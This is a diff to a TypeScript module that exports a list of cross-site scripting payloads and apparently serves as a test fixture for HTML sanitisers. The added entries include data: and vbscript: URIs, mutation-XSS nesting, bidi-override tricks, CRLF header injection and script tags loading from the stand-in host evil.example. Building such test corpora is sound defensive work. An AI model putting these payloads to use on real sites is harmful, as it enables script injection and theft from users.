@@ -4,7 +4,7 @@ export const mark = 'zq7'
 const run = `alert('${mark}')`
 
 /** Payloads that have run in some browser, sanitiser or template. */
-const bases = [
+export const basePayloads: readonly string[] = [
   `<script>${run}</script>`,
   `<script src="https://evil.example/${mark}.js"></script>`,
   `<script type="module">${run}</script>`,
@@ -107,10 +107,24 @@ const bases = [
   `%3Cscript%3E${run}%3C/script%3E`,
   `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
   `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
+  `data:text/html,<script>${run}</script>`,
+  `vbscript:${run}`,
+  `java\nscript:${run}`,
+  `//evil.example/${mark}`,
+  `https://evil.example/${mark}"onmouseover="${run}`,
+  `https://evil.example/${mark}?<script>${run}</script>`,
+  `<!--`,
+  `<svg><style><img src=x onerror=${run}>`,
+  `<p><strong><em><strong><a href="/stores"><strong><em><a href="javascript:${run}"><p>${mark}</em></strong></p></a>`,
+  `<table><tr><td><table><caption><a href="javascript:${run}">${mark}</caption></table>`,
+  `<p style="width:expression(${run})">${mark}</p>`,
+  `\u202e${mark}\u202d \u2066<script>${run}</script>\u2069`,
+  `${mark}\r\nATTACH:javascript:${run}\r\nX-EVIL:1`,
+  `]]><script>${run}</script>`,
 ]
 
 /** Each payload as text, and between paragraphs, so that decoders treat it as HTML. */
-export const scriptPayloads: readonly string[] = bases.flatMap((base) => [
+export const scriptPayloads: readonly string[] = basePayloads.flatMap((base) => [
   `${mark} ${base}`,
   `<p>${mark}</p>${base.toUpperCase().replaceAll(mark.toUpperCase(), mark)}<p>${mark}</p>`,
 ])
